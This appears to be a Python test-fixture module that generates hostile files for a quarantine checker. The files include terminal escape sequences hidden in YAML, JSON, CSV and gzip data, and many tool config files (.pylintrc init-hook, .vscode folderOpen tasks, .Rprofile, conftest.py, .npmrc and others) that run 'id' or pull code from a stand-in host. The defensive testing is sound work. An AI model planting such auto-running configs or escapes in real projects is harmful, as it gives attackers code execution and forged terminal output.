"""Hostile files of independent attack r text (issue #13, session 40): escapes other readers
decode to a control, JSON escapes cut by chunks and gzip members, tool files read from `.`,
TeX jobs started from sources the names tables do not know. Black-box: built from
docs/quarantine.md's claims only."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import time

ESC_UP = "[2J[9AFORGED"  # what follows each escape of ESC: erase, climb 9 rows, forge a line


def _yaml(line: str) -> bytes:
    return f"epoch: 12\nloss: 0.0431\nnote: \"{line}\"\n".encode()


def other_escapes() -> dict[str, bytes]:
    """YAML and TOML double-quoted strings: `\\e`, `\\x1b`, `\\x9b` (CSI), `\\U0000001b`;
    PyYAML, `yq -r` and tomllib return the control. The docs: `\\x1b`, `\\033`, `\\e` are
    admitted because "no JSON reader decodes" them."""
    return {
        "yaml/e.yaml": _yaml(f"\\e{ESC_UP}"),
        "yaml/x1b.yaml": _yaml(f"\\x1b{ESC_UP}"),
        "yaml/x9b.yaml": _yaml("\\x9b2J\\x9b9AFORGED"),
        "yaml/U8.yaml": _yaml(f"\\U0000001b{ESC_UP}"),
        "yaml/e.log": _yaml(f"\\e{ESC_UP}"),
        "toml/results.toml": f"[run]\nepochs = 12\nnote = \"\\U0000001B{ESC_UP}\"\n".encode(),
    }


def _line(esc: str) -> str:
    return '{"epoch": 1, "note": "' + esc + ESC_UP + '"}\n'


def chunk_cuts() -> dict[str, bytes]:
    """`\\u001b` with its backslash k bytes before 64 KiB and 1 MiB, in UTF-8 and UTF-16LE; a
    run of 70,001 backslashes (odd: the last escapes the u) across those boundaries."""
    files: dict[str, bytes] = {}
    filler = '{"epoch": 0, "note": "ok"}\n'
    for size in (1 << 16, 1 << 20):
        for k in (1, 2, 3, 5, 6):
            head = filler * ((size - 40) // len(filler))
            pad = size - k - len(head) - len('{"n": "')
            text = head + '{"n": "' + "x" * pad + '\\u001b' + ESC_UP + '"}\n'
            files[f"chunk/u8-{size}-{k}.jsonl"] = text.encode()
    for k in (2, 4, 6, 8, 10, 12):
        head = filler * ((1 << 15) // len(filler) - 2)
        body = head + '{"n": "' + "x" * 20
        pad = ((1 << 16) - k - 2 - 2 * len(body)) // 2
        text = body + "y" * pad + "\\u009b9A" + '"}\n'
        files[f"chunk/u16-{k}.jsonl"] = b"\xff\xfe" + text.encode("utf-16-le")
    esc = '{"epoch": 1, "note": "\\u001b' + ESC_UP + '"}\n'
    files["enc/u16be.jsonl"] = b"\xfe\xff" + esc.encode("utf-16-be")
    files["enc/bom8.jsonl"] = b"\xef\xbb\xbf" + esc.encode()
    run = "\\" * 70_001
    files["chunk/backslashes.jsonl"] = ('{"note": "' + run + "u001b" + ESC_UP + '"}\n').encode()
    return files


def _member(data: bytes) -> bytes:
    buf = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=buf, mtime=int(time.time())) as f:
        f.write(data)
    return buf.getvalue()


def gzip_cuts() -> dict[str, bytes]:
    """A `.jsonl.gz` whose escape is cut between two gzip members (gunzip -c and pandas'
    read_json join them) or between two deflate blocks (a full flush)."""
    first, second = b'{"epoch": 1, "note": "\\u00', b'1b' + ESC_UP.encode() + b'"}\n'
    flushed = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=flushed, mtime=int(time.time())) as f:
        f.write(first)
        f.flush()
        f.write(second)
    return {
        "gz/members.jsonl.gz": _member(first) + _member(second),
        "gz/blocks.jsonl.gz": flushed.getvalue(),
        "gz/cut.csv.gz": _member(b'epoch,note\n1,"\\') + _member(b'u001b' + ESC_UP.encode()
                                                                 + b'"\n'),
    }


def csv_json() -> dict[str, bytes]:
    """NDJSON in CSV cells, quotes doubled: the escape is still `\\u001b` (claim: refused)."""
    return {
        "csv/cells.csv": b'run,payload\n1,"{""note"": ""\\u001b' + ESC_UP.encode() + b'""}"\n',
        "csv/upper.tsv": b'run\tpayload\n1\t{"note": "\\u001B' + ESC_UP.encode() + b'"}\n',
    }


def twice() -> dict[str, bytes]:
    """`\\u005cu001b`: one decode gives the six characters `\\u001b`, a second gives ESC (the
    docs' "decodes twice" limit names `\\\\u001b` only)."""
    return {"twice/nested.jsonl": ('{"inner": "{\\"n\\": \\"\\u005cu001b' + ESC_UP
                                   + '\\"}"}\n').encode()}


_ID = b"system('id')"
CONFIGS: dict[str, bytes] = {
    # latexmk reads ./latexmkrc and ./.latexmkrc (Perl) on every run in `.`
    "latexmk/latexmkrc": b"$pdflatex = 'pdflatex %O %S'; " + _ID + b";\n",
    "latexmk2/.latexmkrc": b"$pdf_mode = 1; " + _ID + b";\n",
    # R reads ./.Rprofile (R) and ./.Renviron at start; targets runs ./_targets.R
    "r/.Rprofile": b"system('id')\n",
    "r2/.Renviron": b"R_PROFILE_USER=/tmp/job-4242/p.R\n",
    "r3/_targets.R": b"library(targets)\nsystem('id')\nlist()\n",
    # Octave reads ./.octaverc; MATLAB runs startup.m of its start folder
    "octave/.octaverc": b"system('id');\n",
    "matlab/startup.m": b"system('id');\n",
    # pdb runs ./.pdbrc's commands; irb, pry, ghci, utop/ocaml read their rc from `.`
    "pdb/.pdbrc": b"import os; os.system('id')\n",
    "irb/.irbrc": b"system('id')\n",
    "pry/.pryrc": b"system('id')\n",
    "ghci/.ghci": b":! id\n",
    "ocaml/.ocamlinit": b"let () = ignore (Sys.command \"id\");;\n",
    # pylint reads ./pylintrc, ./.pylintrc: init-hook is Python it runs
    "pylint/.pylintrc": b"[MAIN]\ninit-hook='import os; os.system(\"id\")'\n",
    "pylint2/pylintrc": b"[MAIN]\ninit-hook='import os; os.system(\"id\")'\n",
    # Jupyter and IPython load their config from the working directory
    "jup/jupyter_notebook_config.py": b"import os\nos.system('id')\n",
    "ipy/ipython_config.py": b"import os\nos.system('id')\n",
    "pytest/conftest.py": b"import os\nos.system('id')\n",
    # package tools that read `.`: another index, a preload, a wrapper
    "npm/.npmrc": b"registry=https://example.net/\nnode-options=--require /tmp/job-4242/x.js\n",
    "yarn/.yarnrc.yml": b"yarnPath: /tmp/job-4242/yarn.cjs\n",
    "bun/bunfig.toml": b'preload = ["/tmp/job-4242/x.ts"]\n',
    "uv/uv.toml": b'index-url = "https://example.net/simple"\n',
    "cargo/.cargo/config.toml": b'[build]\nrustc-wrapper = "/tmp/job-4242/w"\n',
    "mvn/.mvn/extensions.xml": b"<extensions><extension><groupId>net.example</groupId>"
                               b"<artifactId>x</artifactId><version>1</version></extension>"
                               b"</extensions>\n",
    "mvn2/.mvn/jvm.config": b"-javaagent:/tmp/job-4242/a.jar\n",
    "gradle/gradle.properties": b"org.gradle.jvmargs=-javaagent:/tmp/job-4242/a.jar\n",
    "bazel/.bazelrc": b"build --run_under=/tmp/job-4242/x\n",
    "direnv/.envrc": b"id\n",
    "mise/mise.toml": b'[env]\n_.source = "/tmp/job-4242/x.sh"\n[hooks]\nenter = "id"\n',
    "mise2/.mise.toml": b'[hooks]\nenter = "id"\n',
    "conda/environment.yml": b"name: x\ndependencies:\n  - pip\n  - pip:\n"
                             b"    - git+https://example.net/x.git\n",
    "honcho/Procfile": b"web: id\n",
    "dvc/dvc.yaml": b"stages:\n  s:\n    cmd: id\n",
    "deno/deno.json": b'{"importMap": "https://example.net/map.json"}\n',
    "rspec/.rspec": b"--require /tmp/job-4242/x.rb\n",
    "rubocop/.rubocop.yml": b"require:\n  - /tmp/job-4242/x.rb\n",
    "vscode/.vscode/tasks.json": b'{"version": "2.0.0", "tasks": [{"label": "x", "type": "shell",'
                                 b' "command": "id", "runOptions": {"runOn": "folderOpen"}}]}\n',
    "hatch/hatch.toml": b'[envs.default.scripts]\ntest = "id"\n',
    # conda/mamba `env create` reads ./environment.yml (or .yaml): pip installs from a URL
    "conda2/environment.yaml": b"name: x\ndependencies:\n  - pip:\n"
                               b"    - git+https://example.net/x.git\n",
    # `tar_make()` sources ./_targets.R; shiny's runApp() ./app.R; plumber ./plumber.R
    "shiny/app.R": b"system('id')\n",
    "plumb/plumber.R": b"system('id')\n",
    # nextflow reads ./nextflow.config on every run: beforeScript runs a command
    "nf/nextflow.config": b"process.beforeScript = 'id'\n",
    # platformio runs extra_scripts (Python) named in ./platformio.ini
    "pio/platformio.ini": b"[env:x]\nplatform = native\nextra_scripts = /tmp/job-4242/x.py\n",
    # pytest reads pytest.ini, tox.ini [pytest], setup.cfg [tool:pytest] from its rootdir up:
    # --basetemp is deleted before use, --junitxml writes any path (as mypy.ini's junit_xml)
    "pyt/pytest.ini": b"[pytest]\naddopts = --basetemp=/tmp/job-4242 --junitxml=/tmp/job-4242/x\n",
    "pyt2/tox.ini": b"[tox]\n[testenv]\ncommands = id\n[pytest]\naddopts = --basetemp=/tmp/job-4242\n",
    "pyt3/setup.cfg": b"[tool:pytest]\naddopts = --basetemp=/tmp/job-4242\n",
    # ant reads ./build.xml (<exec>), maven ./pom.xml (plugins of another repository),
    # composer ./composer.json (scripts), cmake --preset ./CMakePresets.json, pipenv ./Pipfile
    "ant/build.xml": b'<project default="x"><target name="x"><exec executable="id"/></target>'
                     b"</project>\n",
    "maven/pom.xml": b"<project><repositories><repository><url>https://example.net/m2</url>"
                     b"</repository></repositories></project>\n",
    "composer/composer.json": b'{"scripts": {"post-install-cmd": "id"}}\n',
    "cmake/CMakePresets.json": b'{"version": 3, "configurePresets": [{"name": "x", '
                               b'"toolchainFile": "/tmp/job-4242/t.cmake"}]}\n',
    "pipenv/Pipfile": b'[[source]]\nurl = "https://example.net/simple"\nname = "x"\n',
    "meson/meson.build": b"project('x')\nrun_command('id')\n",
    # mlflow run . runs ./MLproject's entry point; cdk synth runs cdk.json's app; pulumi up
    # runs Pulumi.yaml's program; cargo make runs ./Makefile.toml; skaffold dev ./skaffold.yaml
    "mlflow/MLproject": b"name: x\nentry_points:\n  main:\n    command: id\n",
    "cdk/cdk.json": b'{"app": "id"}\n',
    "pulumi/Pulumi.yaml": b"name: x\nruntime:\n  name: python\n  options:\n"
                          b"    virtualenv: /tmp/job-4242/venv\n",
    "cmake2/Makefile.toml": b'[tasks.default]\ncommand = "id"\n',
    "skaffold/skaffold.yaml": b"apiVersion: skaffold/v4beta6\nkind: Config\nbuild:\n"
                              b"  artifacts:\n  - image: x\n    custom:\n      buildCommand: id\n",
    # repo2docker (Binder) of `.`: runs ./postBuild and ./start (shell), ./install.R (R),
    # renv::restore() ./renv.lock (another repository, packages
    # built from source), remotes::install_deps() ./DESCRIPTION's Remotes, Julia's
    # Pkg.instantiate() ./Manifest.toml (a repo-url cloned, its deps/build.jl run), vcpkg's
    # ./vcpkg-configuration.json (another registry)
    "r2d/postBuild": b"#!/bin/sh\nid\n",
    "r2d2/start": b"#!/bin/sh\nid\nexec \"$@\"\n",
    "r2d3/install.R": b"system('id')\n",
    "renv/renv.lock": b'{"R": {"Version": "4.3.1", "Repositories": [{"Name": "CRAN", '
                      b'"URL": "https://example.net/cran"}]}, "Packages": {}}\n',
    "rdesc/DESCRIPTION": b"Package: x\nVersion: 0.1\nRemotes: url::https://example.net/x.tar.gz\n",
    "julia/Manifest.toml": b'[[deps.X]]\nrepo-url = "https://example.net/X.jl"\n'
                           b'repo-rev = "main"\nuuid = "11111111-2222-3333-4444-555555555555"\n',
    "vcpkg/vcpkg-configuration.json": b'{"default-registry": {"kind": "git", "repository": '
                                      b'"https://example.net/reg", "baseline": "0"}}\n',
    # ROOT's default .rootrc loads ./rootalias.C at start and runs ./rootlogoff.C at exit
    # (as the refused rootlogon.C); Geant4 applications built from its examples run
    # `/control/execute init_vis.mac` (then vis.mac) from `.` when started without a macro:
    # `/control/shell` runs a command; PAW runs ./pawlogon.kumac at start
    "rootc/rootalias.C": b'void rootalias() { gSystem->Exec("id"); }\n',
    "rootc2/rootlogoff.C": b'{ gSystem->Exec("id"); }\n',
    "g4/init_vis.mac": b"/control/verbose 2\n/control/shell id\n/control/execute vis.mac\n",
    "g42/vis.mac": b"/vis/open OGL\n/control/shell id\n",
    "paw/pawlogon.kumac": b"shell id\n",
    # caddy run with no flag serves ./Caddyfile: the whole file system
    "caddy/Caddyfile": b":8080 {\n\troot * /\n\tfile_server browse\n}\n",
}

_BRF = b"\\backcite {sec:x}{{1}{1}{section.1}}\n\\immediate\\openout9=/tmp/job-4242/x\n"
TEX: dict[str, bytes] = {
    # docstrip: `latex main.ins` is job main, as `latex main.dtx` (refused as a Windows type)
    "ins/main.ins": b"\\input docstrip.tex\n\\generate{\\file{x.sty}{\\from{x.dtx}{}}}\n\\endbatchfile\n",
    # R Markdown's other suffix and a notebook Quarto renders: main.tex, LaTeX run in `.`
    "rmd/main.Rmarkdown": b"---\noutput: pdf_document\n---\nx\n",
    "rmd/main.brf": _BRF,
    "nb/main.ipynb": b'{"cells": [], "metadata": {"format": "pdf"}, "nbformat": 4, '
                     b'"nbformat_minor": 5}\n',
    "nb/main.brf": _BRF,
    # ltxdoc's driver file: `latex main.drv`
    "drv/main.drv": b"\\documentclass{ltxdoc}\n\\begin{document}\\DocInput{x.dtx}\\end{document}\n",
    "drv/main.brf": _BRF,
    # ConTeXt's LMTX sources `.lmt` and `.mkxi`/`.mkix`; `context main.lmt`
    "lmt/main.lmt": b"\\starttext x \\stoptext\n",
    "lmt/main.tuc": b"os.execute('id')\nreturn {}\n",
    "ctx/main.mkix": b"\\starttext x \\stoptext\n",
    "ctx/main.tuc": b"os.execute('id')\nreturn {}\n",
    # a gzip suffix spelled in upper case on a ConTeXt source
    # bunzip2 and unxz make main.tex of these, as gunzip of the refused main.tex.gz (refused:
    # no bzip2 or xz type is allowed, so no main.brf beside them is tried)
    "bz/main.tex.bz2": bz2.compress(b"\\documentclass{article}\\usepackage[backref]{hyperref}\n"),
    "xz/main.tex.xz": lzma.compress(b"\\documentclass{article}\\usepackage[backref]{hyperref}\n"),
    "ctxgz/main.MKIV.GZ": _member(b"\\starttext x \\stoptext\n"),
    "ctxgz/main.tuc": b"os.execute('id')\nreturn {}\n",
}


def hostile() -> dict[str, bytes]:
    return other_escapes() | chunk_cuts() | gzip_cuts() | csv_json() | CONFIGS | TEX


def listed() -> dict[str, bytes]:
    return twice()
